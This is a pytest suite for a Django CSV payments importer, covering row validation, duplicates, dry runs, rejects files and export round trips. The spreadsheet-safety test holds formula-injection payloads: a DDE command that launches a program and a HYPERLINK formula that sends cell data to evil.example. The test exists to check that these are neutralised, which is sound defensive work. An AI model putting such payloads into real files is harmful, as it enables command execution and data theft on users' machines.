"""import_payments: good files go in once, every bad row is named, and bad files change nothing."""

import csv
import functools
import threading
from datetime import date, datetime
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from adoption import importers
from adoption.choices import ImportKind, ImportStatus
from adoption.importers.payments import PaymentImport
from adoption.importers.values import VIETNAM
from adoption.models import ImportBatch, Payment, RollupDirty

HEADER = "customer_code,period,amount,channel_code,paid_at,reference"
GOOD = [
    "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,VTP-1",
    "PA20BQ0000002,2025-01,98000,AGR,2025-01-21 10:00:00+07:00,AGR-1",
    "PA20QB0000001,2025-02,120000,QUAY,2025-02-03T08:00:00,Q-1",
]


pytestmark = pytest.mark.usefixtures("in_english", "import_reports_dir", "refreshes")


@pytest.fixture
def write(write_lines):
    return functools.partial(write_lines, name="payments.csv")


@pytest.fixture
def existing(customers, channels):
    """A payment already in the database, which no failed import may touch."""
    return Payment.objects.create(
        customer=customers["bq3"],
        period=date(2024, 12, 1),
        amount=77000,
        channel=channels["viettelpay"],
        paid_at=datetime(2024, 12, 5, 9, 0, tzinfo=VIETNAM),
        reference="VTP-OLD",
    )


def snapshot():
    return sorted(
        Payment.objects.values_list(
            "customer__code", "period", "amount", "channel__code", "paid_at", "reference"
        )
    )


def import_file(path, *args):
    call_command("import_payments", str(path), *args, verbosity=0)


def refused(path, *args):
    with pytest.raises(CommandError) as error:
        import_file(path, *args)
    return str(error.value)


def test_it_imports_a_good_file_and_records_the_batch(write, existing, refreshes, customers):
    path = write(HEADER, *GOOD)

    import_file(path)

    batch = ImportBatch.objects.get()
    assert batch.kind == ImportKind.PAYMENTS
    assert batch.status == ImportStatus.DONE
    assert batch.file_name == "payments.csv"
    assert batch.sha256 == importers.checksum(path)
    assert (batch.rows_read, batch.rows_imported, batch.rows_skipped, batch.rows_rejected) == (
        3,
        3,
        0,
        0,
    )
    assert batch.finished_at is not None
    assert Payment.objects.filter(import_batch=batch).count() == 3
    payment = Payment.objects.get(reference="VTP-1")
    assert payment.customer == customers["bq1"]
    assert payment.period == date(2025, 1, 1)
    assert payment.amount == 150000
    assert payment.channel.code == "VTP"
    assert Payment.objects.get(reference="VTP-OLD") == existing


def test_it_refreshes_the_rollups_of_the_months_and_branches_it_touched(
    write, refreshes, customers, channels, branches
):
    import_file(write(HEADER, *GOOD))

    assert refreshes == [
        ([date(2025, 1, 1), date(2025, 2, 1)], sorted([branches["bq"].pk, branches["qb"].pk]))
    ]


def test_it_reads_paid_at_without_a_zone_as_vietnam_time(write, customers, channels):
    import_file(
        write(
            HEADER,
            "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,R1",
            "PA20BQ0000001,2025-01,150000,VTP,20/01/2025 09:30,R2",
            "PA20BQ0000001,2025-01,150000,VTP,2025-01-20T02:30:00Z,R3",
        )
    )

    expected = datetime(2025, 1, 20, 9, 30, tzinfo=VIETNAM)
    assert {p.paid_at for p in Payment.objects.all()} == {expected}


def test_importing_the_same_file_twice_adds_nothing_the_second_time(write, customers, channels):
    path = write(HEADER, *GOOD)
    import_file(path)
    before = snapshot()

    import_file(path)

    first, second = ImportBatch.objects.order_by("pk")
    assert (second.rows_read, second.rows_imported, second.rows_skipped) == (3, 0, 3)
    assert (first.rows_read, first.rows_imported + first.rows_skipped) == (
        second.rows_read,
        second.rows_imported + second.rows_skipped,
    )
    assert second.status == ImportStatus.DONE
    assert snapshot() == before


def test_an_overlapping_file_adds_only_the_new_payments(write, customers, channels):
    import_file(write(HEADER, *GOOD[:2]))

    import_file(write(HEADER, *GOOD[1:], name="next.csv"))

    batch = ImportBatch.objects.get(file_name="next.csv")
    assert (batch.rows_imported, batch.rows_skipped) == (1, 1)
    assert Payment.objects.count() == 3


def test_the_same_reference_on_another_channel_is_another_payment(write, customers, channels):
    import_file(
        write(
            HEADER,
            "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,SAME",
            "PA20BQ0000001,2025-01,150000,AGR,2025-01-20 09:30,SAME",
        )
    )

    assert Payment.objects.count() == 2


def test_a_dry_run_counts_but_writes_nothing(write, existing, refreshes):
    path = write(HEADER, *GOOD, "PA20BQ0000003,2024-12,77000,VTP,2024-12-05 09:00,VTP-OLD")
    before = snapshot()

    import_file(path, "--dry-run")

    assert snapshot() == before
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.DRY_RUN
    assert (batch.rows_read, batch.rows_imported, batch.rows_skipped) == (4, 3, 1)
    assert refreshes == []


@pytest.mark.parametrize(
    ("mode", "batches", "written"),
    [
        (importers.Mode.PREVIEW, [], False),
        (importers.Mode.DRY_RUN, [ImportStatus.DRY_RUN], False),
        (importers.Mode.IMPORT, [ImportStatus.DONE], True),
    ],
)
def test_the_mode_says_what_is_recorded_and_written(
    write, existing, refreshes, mode, batches, written
):
    path = write(HEADER, *GOOD, "PA20BQ0000003,2024-12,77000,VTP,2024-12-05 09:00,VTP-OLD")
    before = snapshot()

    outcome = importers.run(ImportKind.PAYMENTS, path, mode=mode)

    assert (outcome.ok, outcome.rows_read, outcome.rows_imported) == (True, 4, 3)
    assert list(ImportBatch.objects.values_list("status", flat=True)) == batches
    assert (snapshot() != before) == written
    assert outcome.dry_run == (not written)


# Each bad input: the message names the row and column, and nothing changes.

BAD_ROWS = [
    (
        "PA20BQ0009999,2025-01,150000,VTP,2025-01-20 09:30,R9",
        "Row 3, customer_code: Unknown customer “PA20BQ0009999”.",
    ),
    (
        "PA20BQ0000001,2025-01,150000,NOPE,2025-01-20 09:30,R9",
        "Row 3, channel_code: Unknown channel “NOPE”.",
    ),
    (
        "PA20BQ0000001,2025-13,150000,VTP,2025-01-20 09:30,R9",
        "Row 3, period: “2025-13” is not a month; write YYYY-MM or MM/YYYY.",
    ),
    (
        "PA20BQ0000001,jan 2025,150000,VTP,2025-01-20 09:30,R9",
        "Row 3, period: “jan 2025” is not a month; write YYYY-MM or MM/YYYY.",
    ),
    (
        "PA20BQ0000001,2099-01,150000,VTP,2025-01-20 09:30,R9",
        "Row 3, period: 01/2099 is in the future.",
    ),
    (
        "PA20BQ0000001,2017-12,150000,VTP,2017-12-20 09:30,R9",
        "Row 3, period: 12/2017 is before the customer was connected (01/2018).",
    ),
    (
        "PA20BQ0000001,2025-01,0,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: “0” is not a positive whole number of VND",
    ),
    # A sum of such amounts overflowed the rollups and took every dashboard down.
    (
        "PA20BQ0000001,2025-01,9223372036854775807,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: 9223372036854775807 VND is more than the largest payment accepted "
        "(100.000.000.000 VND).",
    ),
    (
        'PA20BQ0000001,2025-01,"100,000,000,001",VTP,2025-01-20 09:30,R9',
        "Row 3, amount: 100,000,000,001 VND is more than the largest payment accepted",
    ),
    # Moments at the ends of the calendar broke the admin list and export_payments.
    (
        "PA20BQ0000001,2025-01,150000,VTP,0001-01-01T00:00:00-05:00,R9",
        "Row 3, paid_at: “0001-01-01T00:00:00-05:00” is outside the accepted dates (01/01/2000 to ",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,9999-12-31T23:59:59-05:00,R9",
        "Row 3, paid_at: “9999-12-31T23:59:59-05:00” is outside the accepted dates",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,9999-12-31 23:59,R9",
        "Row 3, paid_at: “9999-12-31 23:59” is outside the accepted dates",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,31/12/1999 23:59,R9",
        "Row 3, paid_at: “31/12/1999 23:59” is outside the accepted dates",
    ),
    # Paid years before the customer was connected (01/2018).
    (
        "PA20BQ0000001,2025-01,150000,VTP,2005-01-20 09:30,R9",
        "Row 3, paid_at: 20/01/2005 is before the customer was connected (01/2018).",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,2005-01-20T09:30:00+07:00,R9",
        "Row 3, paid_at: 20/01/2005 is before the customer was connected (01/2018).",
    ),
    (
        "PA20BQ0000001,2025-01,-150000,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: “-150000” is not a positive whole number of VND",
    ),
    (
        "PA20BQ0000001,2025-01,1500.50,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: “1500.50” is not a positive whole number of VND",
    ),
    (
        'PA20BQ0000001,2025-01,"1.50.000",VTP,2025-01-20 09:30,R9',
        "Row 3, amount: “1.50.000” is not a positive whole number of VND",
    ),
    (
        "PA20BQ0000001,2025-01,abc,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: “abc” is not a positive whole number of VND",
    ),
    (
        "PA20BQ0000001,2025-01,,VTP,2025-01-20 09:30,R9",
        "Row 3, amount: This value is required.",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,31/02/2025 09:30,R9",
        "Row 3, paid_at: “31/02/2025 09:30” is not a date and time",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,yesterday,R9",
        "Row 3, paid_at: “yesterday” is not a date and time",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,",
        "Row 3, reference: This value is required.",
    ),
    (
        "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30," + "X" * 65,
        "Row 3, reference: A reference has at most 64 characters.",
    ),
    (
        "PA20BQ0000002,2025-01,150000,VTP,2025-01-20 09:30,VTP-1",
        "Row 3, reference: Duplicate of row 2: same channel and reference “VTP-1”.",
    ),
]


@pytest.mark.parametrize(("line", "message"), BAD_ROWS)
def test_it_refuses_a_file_with_a_bad_row_and_changes_nothing(
    write, existing, refreshes, line, message
):
    before = snapshot()

    error = refused(write(HEADER, GOOD[0], line, GOOD[2]))

    assert "1 row has problems: nothing was imported." in error
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.FAILED
    assert message in batch.message
    assert (batch.rows_read, batch.rows_imported, batch.rows_rejected) == (3, 0, 1)
    assert snapshot() == before
    assert refreshes == []


def test_it_refuses_an_inactive_channel(write, existing, channels):
    channels["agribank"].active = False
    channels["agribank"].save()
    before = snapshot()

    refused(write(HEADER, *GOOD))

    assert "Row 3, channel_code: The channel “AGR” is inactive." in (
        ImportBatch.objects.get().message
    )
    assert snapshot() == before


def test_it_reports_every_problem_of_every_row(write, existing, capsys):
    path = write(
        HEADER,
        "PA20BQ0009999,2025-13,0,VTP,2025-01-20 09:30,R1",
        GOOD[0],
        "PA20BQ0000001,2025-01,150000,NOPE,someday,R3",
    )

    with pytest.raises(CommandError):
        call_command("import_payments", str(path), verbosity=0)

    printed = capsys.readouterr().out
    for problem in [
        "Row 2, customer_code: Unknown customer “PA20BQ0009999”.",
        "Row 2, period: “2025-13” is not a month",
        "Row 2, amount: “0” is not a positive whole number",
        "Row 4, channel_code: Unknown channel “NOPE”.",
        "Row 4, paid_at: “someday” is not a date and time",
    ]:
        assert problem in printed
    report = ImportBatch.objects.get().message
    assert "2 rows have problems: nothing was imported." in report


def test_the_report_file_lists_every_problem(write, existing, import_reports_dir, monkeypatch):
    monkeypatch.setattr("adoption.importers.reports.KEPT_PROBLEMS", 2)
    lines = [f"PA20BQ0009999,2025-01,150000,VTP,2025-01-20 09:30,R{i}" for i in range(30)]

    refused(write(HEADER, *lines))

    (report,) = import_reports_dir.glob("*-report.txt")
    text = report.read_text(encoding="utf-8")
    assert text.count("Unknown customer") == 30
    assert "Row 31, customer_code" in text


def test_a_missing_column_is_refused_before_any_row(write, existing):
    before = snapshot()

    error = refused(
        write(
            "customer_code,period,channel_code,paid_at",
            "PA20BQ0009999,2025-13,NOPE,never",
        )
    )

    assert "Missing required column(s): amount, reference." in error
    assert "Row" not in error
    batch = ImportBatch.objects.get()
    assert (batch.status, batch.rows_read, batch.rows_rejected) == (ImportStatus.FAILED, 0, 0)
    assert snapshot() == before


# --skip-invalid


def test_skip_invalid_imports_exactly_the_good_rows_and_writes_the_bad_ones(
    write, existing, import_reports_dir, refreshes, branches
):
    bad = [
        "PA20BQ0009999,2025-01,150000,VTP,2025-01-20 09:30,B1",
        "PA20BQ0000001,2025-01,-5,AGR,2025-01-20 09:30,B2",
        "PA20QB0000001,2025-02,120000,QUAY,2025-02-03T08:00:00,Q-1",  # duplicate of GOOD[2]
    ]
    path = write(HEADER, GOOD[0], bad[0], GOOD[1], bad[1], GOOD[2], bad[2])

    import_file(path, "--skip-invalid")

    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.DONE
    assert (batch.rows_read, batch.rows_imported, batch.rows_skipped, batch.rows_rejected) == (
        6,
        3,
        0,
        3,
    )
    assert set(Payment.objects.filter(import_batch=batch).values_list("reference", flat=True)) == {
        "VTP-1",
        "AGR-1",
        "Q-1",
    }
    with open(batch.rejects_file, encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == [*HEADER.split(","), "error"]
    assert [row[:-1] for row in rows[1:]] == [line.split(",") for line in bad]
    assert rows[1][-1] == "customer_code: Unknown customer “PA20BQ0009999”."
    assert rows[3][-1] == "reference: Duplicate of row 6: same channel and reference “Q-1”."
    assert len(refreshes) == 1


def test_the_rejects_file_can_be_fixed_and_imported_again(write, customers, channels):
    path = write(HEADER, GOOD[0], "PA20BQ0000001,2025-01,-5,AGR,2025-01-20 09:30,B2")
    import_file(path, "--skip-invalid")
    rejects = ImportBatch.objects.get().rejects_file

    text = Path(rejects).read_text(encoding="utf-8-sig")
    fixed = write(text.replace(",-5,", ",5000,"), name="fixed.csv")
    import_file(fixed)

    assert Payment.objects.get(reference="B2").amount == 5000


def test_skip_invalid_without_bad_rows_writes_no_rejects_file(write, customers, channels):
    import_file(write(HEADER, *GOOD), "--skip-invalid")

    assert ImportBatch.objects.get().rejects_file == ""


def test_a_failing_rollup_refresh_does_not_undo_the_import(write, customers, channels, monkeypatch):
    # The refresh is the worker's job (tasks.rebuild_rollups), after the import is over: its
    # failure is the worker's to log; the rows stay, and so do their months' markers, for the
    # worker's sweep to catch up.
    def broken(periods=None, branch_ids=None):
        raise RuntimeError("rollups are down")

    monkeypatch.setattr("adoption.metrics.freshness.refresh", broken)

    import_file(write(HEADER, *GOOD))

    batch = ImportBatch.objects.get()
    assert batch.rows_imported == 3
    assert batch.status == ImportStatus.DONE
    marked = set(RollupDirty.objects.values_list("period", "branch_id"))
    touched = set(Payment.objects.values_list("period", "customer__branch_id"))
    assert touched and touched <= marked


def test_an_unreachable_queue_leaves_the_rows_and_says_the_figures_lag(
    write, customers, channels, monkeypatch
):
    from adoption import tasks

    class Unreachable:
        name = "rebuild_rollups"

        def __call__(self, *args):
            raise ConnectionError("redis is down")

    monkeypatch.setattr(tasks, "rebuild_rollups", Unreachable())

    import_file(write(HEADER, *GOOD))

    batch = ImportBatch.objects.get()
    assert batch.rows_imported == 3
    assert "the dashboard figures could not be refreshed" in batch.message
    marked = set(RollupDirty.objects.values_list("period", "branch_id"))
    touched = set(Payment.objects.values_list("period", "customer__branch_id"))
    assert touched and touched <= marked


@pytest.mark.postgres
def test_a_database_error_while_writing_refuses_the_file_and_writes_nothing(
    write, existing, monkeypatch
):
    monkeypatch.setattr("adoption.importers.CHUNK_ROWS", 1)
    copy_chunk = PaymentImport._copy_chunk
    chunks = []

    def failing_second_chunk(self, cursor, buffer):
        chunks.append(buffer)
        if len(chunks) == 2:
            cursor.execute("SELECT 1 / 0")
        return copy_chunk(self, cursor, buffer)

    monkeypatch.setattr(PaymentImport, "_copy_chunk", failing_second_chunk)
    before = snapshot()

    error = refused(write(HEADER, *GOOD))

    assert error.startswith("The database refused the rows, nothing was imported: division by zero")
    assert snapshot() == before
    assert ImportBatch.objects.get().status == ImportStatus.FAILED
    assert not [t for t in threading.enumerate() if t.name == "import-writer"]


def test_an_unexpected_error_fails_the_record_and_writes_nothing(write, existing, monkeypatch):
    def broken(self, chunk):
        raise RuntimeError("a bug")

    monkeypatch.setattr(PaymentImport, "check", broken)
    before = snapshot()

    with pytest.raises(RuntimeError):
        importers.run(ImportKind.PAYMENTS, write(HEADER, *GOOD))

    assert ImportBatch.objects.get().status == ImportStatus.FAILED
    assert snapshot() == before


# Round trip through export_payments.


def test_an_export_imports_again_to_the_same_payments(write, customers, channels, tmp_path):
    import_file(write(HEADER, *GOOD))
    before = snapshot()
    exported = tmp_path / "export.csv"
    call_command("export_payments", str(exported), verbosity=0)

    import_file(exported)  # into the same database: everything is already there
    again = ImportBatch.objects.latest("pk")
    assert (again.rows_read, again.rows_imported, again.rows_skipped) == (3, 0, 3)

    Payment.objects.all().delete()  # an empty payments table, as in a fresh database
    import_file(exported)

    assert snapshot() == before


def test_an_export_of_one_period_holds_only_that_month(write, customers, channels, tmp_path):
    import_file(write(HEADER, *GOOD))
    exported = tmp_path / "export.csv"

    call_command("export_payments", str(exported), "--period", "02/2025", verbosity=0)

    with open(exported, encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == HEADER.split(",")
    assert [row[5] for row in rows[1:]] == ["Q-1"]
    assert rows[1][1] == "2025-02"


def test_it_refuses_payments_for_months_after_the_disconnection(write, existing, customers):
    """A commune showed 3 non-cash payers of 2 active customers: months after disconnection."""
    customers["bq1"].disconnected_on = date(2025, 1, 15)
    customers["bq1"].save()
    before = snapshot()

    error = refused(
        write(
            HEADER,
            "PA20BQ0000001,2025-01,150000,VTP,2025-01-20 09:30,LAST",
            "PA20BQ0000001,2025-02,150000,VTP,2025-02-20 09:30,AFTER",
        )
    )

    assert "1 row has problems: nothing was imported." in error
    assert "Row 3, period: 02/2025 is after the customer was disconnected (01/2025)." in (
        ImportBatch.objects.get().message
    )
    assert snapshot() == before


def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(write, customers, channels):
    path = write(
        "customer_code,period,amount,channel_code,paid_at,reference,=cmd|' /C calc'!A0",
        GOOD[0] + ",x",
        '=HYPERLINK("http://evil.example/?"&A1;"Click"),2025-01,-5,+AGR,@SUM(1),-1+1,x',
    )

    import_file(path, "--skip-invalid")

    rejects = ImportBatch.objects.get().rejects_file
    with open(rejects, encoding="utf-8-sig", newline="") as file:
        header, row = list(csv.reader(file))
    assert header[-2] == "'=cmd|' /C calc'!A0"
    assert row[:6] == [
        '\'=HYPERLINK("http://evil.example/?"&A1;"Click")',
        "2025-01",
        "-5",  # a number stays a number, to be corrected and imported again
        "'+AGR",
        "'@SUM(1)",
        "'-1+1",
    ]
    assert not any(cell.startswith(("=", "+", "@")) for cell in [*header, *row])


def test_a_reference_repeated_in_a_later_chunk_is_rejected_and_the_first_row_kept(
    write, customers, channels, monkeypatch
):
    # The duplicate check works on disk and reports after every row is read: across chunks too.
    monkeypatch.setattr("adoption.importers.CHUNK_ROWS", 2)
    repeat = "PA20BQ0000002,2025-01,999000,VTP,2025-01-22 10:00,VTP-1"
    path = write(HEADER, *GOOD, repeat, repeat.replace("VTP-1", "VTP-2"), repeat)

    import_file(path, "--skip-invalid")

    batch = ImportBatch.objects.get()
    assert (batch.rows_read, batch.rows_imported, batch.rows_skipped, batch.rows_rejected) == (
        6,
        4,
        0,
        2,
    )
    assert Payment.objects.get(reference="VTP-1").amount == 150000
    with open(batch.rejects_file, encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert [row[-1] for row in rows] == [
        "reference: Duplicate of row 2: same channel and reference “VTP-1”."
    ] * 2


def test_a_dry_run_counts_a_reference_repeated_across_chunks_once(
    write, customers, channels, monkeypatch
):
    monkeypatch.setattr("adoption.importers.CHUNK_ROWS", 1)
    path = write(HEADER, *GOOD, GOOD[0])

    with pytest.raises(CommandError):
        import_file(path, "--dry-run")
    import_file(path, "--dry-run", "--skip-invalid")

    batch = ImportBatch.objects.latest("pk")
    assert (batch.rows_read, batch.rows_imported, batch.rows_rejected) == (4, 3, 1)
    assert Payment.objects.count() == 0


@pytest.mark.postgres
def test_a_bulk_load_analyses_the_payments_table_at_its_end(
    write, customers, channels, monkeypatch
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr(importers, "CHUNK_ROWS", 2)  # three rows: a bulk load, here
    with CaptureQueriesContext(connection) as queries:
        import_file(write(HEADER, *GOOD))

    sql = [q["sql"] for q in queries.captured_queries]
    # Only the month written (GOOD's rows are all of one month), not every partition.
    analysed = [q for q in sql if q.startswith("ANALYZE")]
    months = {p.period for p in Payment.objects.all()}
    assert analysed == [f"ANALYZE adoption_payment_p{m:%Y%m}" for m in sorted(months)]
    assert Payment.objects.count() == 3


def test_a_small_import_analyses_nothing(write, customers, channels):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        import_file(write(HEADER, *GOOD))

    assert not any("ANALYZE" in q["sql"] for q in queries.captured_queries)
